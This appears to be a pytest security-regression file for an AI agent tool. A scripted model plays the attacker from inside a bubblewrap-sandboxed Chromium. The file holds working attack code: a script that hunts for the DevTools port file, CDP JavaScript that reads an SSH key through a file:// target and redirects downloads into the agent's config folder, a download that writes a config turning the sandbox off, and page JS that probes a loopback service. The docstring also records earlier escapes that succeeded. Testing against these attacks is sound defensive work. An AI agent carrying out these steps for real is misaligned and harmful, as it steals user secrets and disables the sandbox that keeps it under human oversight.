"""Attacks through the browser, by a real `ga run` whose scripted model is the attacker, on real Chromium and real
bubblewrap (issue 30, item 2): the browser acts with its task's rights and no more.

- The DevTools port: code_run read the port from the profile in GA_HOME, page JS then drove CDP to read files
  (file:// in a new target) and to send a download into ~/.config/ga. Now the browser has no port (a pipe) and
  its profile is in its sandbox's private /tmp.
- Loopback: from a task whose network reaches no host, page JS read a local HTTP service.
- kill -9 of the worker left the browser running.
"""
from __future__ import annotations

import http.server
import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
import time
from pathlib import Path
from typing import Iterator

import pytest
import yaml

from configs import load_settings
from tests.ga_support import GA, ga_env, run_ga
from web_fixtures.server import js
from worker.tools.base import ToolContext

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap not installed")
NO_KEY = {"OPENAI_API_KEY": None, "GA_MODEL": None}
KEY = "FAKE_SSH_KEY_browser_attack"


@pytest.fixture
def place() -> Iterator[Path]:
    """HOME, GA_HOME and the project outside /tmp (the sandbox's private /tmp would hide them anyway)."""
    root = Path(tempfile.mkdtemp(prefix="ga-web-attack-", dir="/var/tmp"))
    for name in ("home", "ga-home", "project"):
        (root / name).mkdir()
    yield root
    shutil.rmtree(root, ignore_errors=True)


def call(name: str, **arguments: object) -> dict:
    return {"content": "step", "tool_calls": [{"name": name, "arguments": arguments}]}


def ga_run(place: Path, turns: list[dict], *, user_config: str = "", timeout: float = 300) -> list[tuple[str, str]]:
    """`ga run` in place/project, the scripted model making these tool calls; every (tool, result), in order."""
    if user_config:
        folder = place / "home" / ".config" / "ga"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "config.yaml").write_text(user_config)
    script = place / "model.yaml"
    script.write_text(yaml.safe_dump({"tasks": [{"match": ".*", "turns": [*turns, {"content": "done",
                                                                                     "echo_last_tool_result": True}]}]}))
    env = {**NO_KEY, "HOME": str(place / "home"), "GA_HOME": str(place / "ga-home")}
    done = run_ga("run", "attack", "--model", f"scripted:{script}", "--json", cwd=place / "project", env=env,
                  timeout=timeout)
    assert done.returncode in (0, 1), done.stderr[-2000:]
    (history,) = (place / "project" / "runs").glob("*/tasks/*/history.jsonl")
    records = [json.loads(line) for line in history.read_text().splitlines()]
    results = [(r["name"], r["output"]) for turn in records for r in turn.get("tool_results", [])]
    assert len(results) == len(turns), results
    return results


FIND = """
import glob, os, pathlib, sys
roots = [os.environ["GA_HOME"], os.environ["HOME"], "/tmp"]
def find(name):
    return [p for root in roots for p in glob.glob(f"{root}/**/{name}", recursive=True)]
ports, profiles = find("DevToolsActivePort"), find("Local State")
print("ports:", ports or "none")
print("profiles:", profiles or "none")
port, path = open(ports[0]).read().split()[:2] if ports else ("9", "/none")
pathlib.Path("nav.js").write_text(f"location.href = 'http://127.0.0.1:{port}/json/version'")
attack = pathlib.Path("cdp.js.template").read_text()
pathlib.Path("attack.js").write_text(attack.replace("PORT", port).replace("PATH", path))
"""
# Page JS on the DevTools origin drives the browser over CDP: downloads into ~/.config/ga, a file:// target read.
CDP = """
const ws = new WebSocket('ws://127.0.0.1:PORT' + 'PATH');
await new Promise((ok, bad) => { ws.onopen = ok; ws.onerror = () => bad(new Error('no DevTools here')); });
let next = 0;
const waiting = new Map();
ws.onmessage = (m) => { const d = JSON.parse(m.data); if (waiting.has(d.id)) { waiting.get(d.id)(d); } };
const send = (method, params = {}, sessionId) => new Promise((ok) => {
  const id = ++next; waiting.set(id, ok); ws.send(JSON.stringify({id, method, params, sessionId})); });
const targets = (await send('Target.getTargets')).result.targetInfos;
for (const context of new Set(targets.map((t) => t.browserContextId))) {
  await send('Browser.setDownloadBehavior', {behavior: 'allow', downloadPath: 'CONFIG', browserContextId: context});
}
const opened = await send('Target.createTarget', {url: 'file://KEYFILE'});
const attached = await send('Target.attachToTarget', {targetId: opened.result.targetId, flatten: true});
await new Promise((r) => setTimeout(r, 1500));
const read = await send('Runtime.evaluate', {expression: 'document.body.innerText', returnByValue: true},
                        attached.result.sessionId);
'read: ' + read.result.result.value
"""
DOWNLOAD = """
const a = document.createElement('a');
a.href = URL.createObjectURL(new Blob(['sandbox: {mode: "off"}\\n']));
a.download = 'config.yaml';
document.body.appendChild(a);
a.click();
await new Promise((r) => setTimeout(r, 2000));
'clicked'
"""


def test_no_devtools_port_or_profile_to_find_so_no_download_into_the_config_and_no_file_read(place: Path) -> None:
    home, project = place / "home", place / "project"
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY}\n")
    config = home / ".config" / "ga"
    config.mkdir(parents=True)
    template = CDP.replace("CONFIG", str(config)).replace("KEYFILE", str(home / ".ssh" / "id_rsa"))
    (project / "cdp.js.template").write_text(template)
    (project / "download.js").write_text(DOWNLOAD)
    results = ga_run(place, [
        call("web_execute_js", script="location.href = 'about:blank'"),  # the browser is up
        call("code_run", type="python", script=FIND),
        call("web_execute_js", script="nav.js"),
        call("web_execute_js", script="attack.js"),
        call("web_execute_js", script="download.js")])
    found = results[1][1]
    assert "ports: none" in found and "profiles: none" in found, found
    everything = "\n".join(output for _, output in results)
    assert KEY not in everything and "read: " not in everything, everything[-2000:]
    assert not (config / "config.yaml").exists() and list(config.iterdir()) == []
    assert not list(project.glob("config*.yaml"))  # nor anywhere else the task could reach: downloads are refused


class _Secret(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self) -> None:
        _Secret.seen.append(self.path)
        body = b"<title>local service</title><p>LOOPBACK_SECRET_browser</p>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def local_service() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Secret)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Secret.seen.clear()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.mark.parametrize(("user_config", "reached"), [
    ("", False),  # the default network: gateway, which reaches no host
    ("sandbox: {network: [example.org]}\n", False),  # a host list without loopback
    ("sandbox: {network: [127.0.0.1]}\n", True),  # loopback listed: the control, it is reachable
])
def test_loopback_is_reached_only_when_listed(place: Path, local_service: str, user_config: str,
                                             reached: bool) -> None:
    results = ga_run(place, [call("web_execute_js", script=f"location.href = '{local_service}/private'"),
                             call("web_scan", text_only=True)], user_config=user_config)
    everything = "\n".join(output for _, output in results)
    assert ("LOOPBACK_SECRET_browser" in everything) is reached, everything[-1500:]
    assert bool(_Secret.seen) is reached, _Secret.seen


@pytest.mark.parametrize("executor", ["local", pytest.param("ray", marks=pytest.mark.ray)])  # ray: `ga fanout` starts its own
def test_from_a_fanout_task_loopback_is_out_of_reach_too(place: Path, local_service: str, executor: str) -> None:
    from worker.scripted import ScriptedServer

    turns = [call("web_execute_js", script=f"location.href = '{local_service}/private'"),
             call("web_scan", text_only=True), {"content": "seen:", "echo_last_tool_result": True}]
    with ScriptedServer({"tasks": [{"match": ".*", "turns": turns}]}) as server:
        (place / "project" / "tasks.yaml").write_text(json.dumps({
            "tasks": [{"id": "browse", "prompt": "look"}], "defaults": {"model": f"scripted@{server.base_url}"}}))
        done = run_ga("fanout", "tasks.yaml", "--json", "--no-preflight", cwd=place / "project", timeout=400,
                      env={**NO_KEY, "HOME": str(place / "home"), "GA_HOME": str(place / "ga-home"),
                           "GA_FANOUT__EXECUTOR": executor})
    assert done.stdout.strip(), done.stderr[-2000:]
    (result,) = json.loads(done.stdout)["results"]
    assert "--- t1" in result["answer"], result  # the scan ran
    assert "LOOPBACK_SECRET_browser" not in done.stdout and _Secret.seen == [], result


def cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except (OSError, IndexError):
        return False


def descendants(top: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parent = int(Path(f"/proc/{entry.name}/stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(parent, []).append(int(entry.name))
    found, todo = [], list(children.get(top, []))
    while todo:
        pid = todo.pop()
        found.append(pid)
        todo.extend(children.get(pid, []))
    return found


def wait_for(predicate, seconds: float):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(0.1)
    return predicate()


def test_kill_9_of_the_worker_leaves_no_browser(place: Path) -> None:
    marker = f"900.{os.getpid()}7"
    script = place / "model.yaml"
    script.write_text(yaml.safe_dump({"tasks": [{"match": ".*", "turns": [
        call("web_execute_js", script="1 + 1"), call("code_run", type="bash", script=f"sleep {marker}", timeout=600),
        {"content": "woke up"}]}]}))
    env = ga_env({**NO_KEY, "HOME": str(place / "home"), "GA_HOME": str(place / "ga-home")})
    worker = subprocess.Popen([*GA, "run", "browse", "--model", f"scripted:{script}", "--json"], cwd=place / "project",
                              env=env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    browsers: list[int] = []
    try:
        def started() -> list[int]:
            below = descendants(worker.pid)
            if not any(cmdline(pid).startswith(f"sleep {marker}") for pid in below):
                return []
            return [pid for pid in below if "--user-data-dir=" in cmdline(pid)]
        browsers = wait_for(started, 120)
        assert browsers, "the browser and the script never both ran"
        worker.send_signal(signal.SIGKILL)
        worker.wait()
        assert wait_for(lambda: not any(alive(pid) for pid in browsers), 15), "a browser outlived its worker"
        left = list(Path(tempfile.gettempdir()).glob(f"ga-browser-{worker.pid}-*"))
        assert left, "the killed worker's launcher folder was expected to stay behind"
        ctx = ToolContext("next", place / "project", load_settings({"home": str(place / "ga-home")}), None)
        assert js(ctx, "1", no_monitor=True).ok  # the next browser launched on this machine clears it away
        ctx.close()
        assert not any(folder.exists() for folder in left)
    finally:
        if worker.poll() is None:
            worker.kill()
        for pid in browsers:
            if alive(pid):
                os.kill(pid, signal.SIGKILL)
